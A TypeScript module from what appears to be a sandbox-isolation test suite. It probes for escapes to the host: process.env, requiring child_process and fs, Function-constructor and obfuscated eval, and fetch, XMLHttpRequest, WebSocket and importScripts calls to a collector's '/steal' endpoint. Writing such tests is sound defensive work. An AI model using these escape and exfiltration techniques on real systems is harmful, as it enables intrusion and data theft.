import { type Attack, nothing, type Way } from '../attack.ts';
import { callSites, poisonedWeakMap, polluted } from './reach-by-prototypes.ts';
import { everythingFrom, hostNames, probe, runBy } from './reach-walk.ts';

type Any = Record<string, unknown>;
declare const require: unknown;
const world = globalThis as unknown as Any;

/** Looks for the host behind the API: its process, modules, network, and anything that evaluates code out there. */
export const reach: Attack = {
  name: 'reach',
  ways: (scene) => {
    const { collector, context, client, handle, keep } = scene;
    const ways = new Map<string, Way>();
    ways.set('globals', async () => {
      const names = hostNames(world);
      keep(names);
      const { process, Buffer } = world as { process?: { env?: unknown }; Buffer?: unknown };
      keep(process?.env);
      return process === undefined && Buffer === undefined ? nothing('no host globals') : 'process or Buffer';
    });
    for (const name of [
      'fs',
      'node:fs',
      'child_process',
      'electron',
      'undici',
      '../../broker/dist/broker.js',
    ]) {
      ways.set(`require ${name}`, async () => {
        const load = require as (name: string) => unknown;
        const found = load(name);
        keep(found);
        return found === undefined ? nothing('nothing') : 'a module';
      });
    }
    ways.set('require internals', async () => {
      keep(require);
      const { cache, main } = require as unknown as Any;
      return cache === undefined && main === undefined ? nothing('a bare function') : 'require.cache or main';
    });
    const makers: Record<string, () => unknown> = {
      function: () => (() => undefined).constructor,
      async: () => (async () => undefined).constructor,
      generator: () => Object.getPrototypeOf(function* () {}).constructor,
      'async generator': () => Object.getPrototypeOf(async function* () {}).constructor,
    };
    for (const [name, maker] of Object.entries(makers))
      ways.set(`${name} constructor`, () => probe(runBy(maker()), keep));
    ways.set('indirect evaluation', async () => {
      const evaluate = world[['ev', 'al'].join('')];
      return typeof evaluate === 'function' ? probe((code) => evaluate(code), keep) : nothing('not there');
    });
    ways.set('walk', async () => {
      const response = await client.fetch('/public/small');
      for (const found of everythingFrom({ context, client, handle, response })) {
        if (typeof found !== 'function') continue;
        const got = await probe(runBy(found.constructor), keep).catch(() => undefined);
        if (got !== undefined) return `${got} by ${found.name}`;
      }
      return nothing('no way out');
    });
    ways.set('fetch', async () => {
      keep(await fetch(`${collector}/steal`, { mode: 'no-cors' }));
      return 'the network';
    });
    ways.set('XMLHttpRequest', async () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${collector}/steal`, false);
      request.send();
      keep(request.responseText);
      return 'the network';
    });
    for (const name of ['WebSocket', 'EventSource', 'Worker', 'RTCPeerConnection', 'WebTransport']) {
      ways.set(name, async () => {
        if (world[name] === undefined) return nothing('not there');
        const url = name === 'WebSocket' ? collector.replace('http', 'ws') : collector;
        keep(Reflect.construct(world[name] as new (url: string) => object, [`${url}/steal`]));
        // Constructing is not arriving: what arrived is seen at the collector.
        return nothing('constructed');
      });
    }
    ways.set('importScripts', async () => {
      const { importScripts: load } = world as { importScripts?: (url: string) => void };
      if (load === undefined) return nothing('not there');
      load(`${collector}/steal`);
      return 'a script of the collector';
    });
    ways.set('call sites', () => callSites(scene));
    ways.set('polluted prototype', () => polluted(scene));
    ways.set('poisoned WeakMap', () => poisonedWeakMap(scene));
    return ways;
  },
};
